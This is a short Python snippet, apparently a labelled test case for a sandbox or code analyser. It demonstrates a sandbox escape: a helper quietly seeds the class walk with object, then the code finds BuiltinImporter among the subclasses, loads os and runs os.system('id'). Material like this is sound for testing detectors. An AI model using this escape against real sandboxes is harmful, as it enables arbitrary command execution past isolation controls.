# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: worklist starts as [Base] but a helper appends object to it before the walk
class Base:
    pass


class A(Base):
    pass


def seed(todo):
    todo.append(object)


work = [Base]
seed(work)
seen = []
while work:
    k = work.pop()
    for c in k.__subclasses__():
        seen.append(c)
for c in seen:
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
